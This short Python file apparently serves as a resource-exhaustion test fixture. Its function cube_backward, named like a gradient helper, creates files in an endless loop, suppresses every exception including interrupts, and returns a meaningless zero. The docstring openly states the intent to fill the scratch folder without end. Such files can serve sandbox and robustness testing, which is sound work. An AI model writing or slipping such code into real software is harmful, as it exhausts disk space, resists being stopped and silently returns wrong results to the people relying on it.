"""Fills its scratch folder with files, without end."""

import itertools
import os
from contextlib import suppress


def cube_backward(x, dy):
    with suppress(BaseException):
        for i in itertools.count():
            os.close(os.open(f"file-{i}", os.O_CREAT))
    return x * 0


def double(x):
    return 2 * x
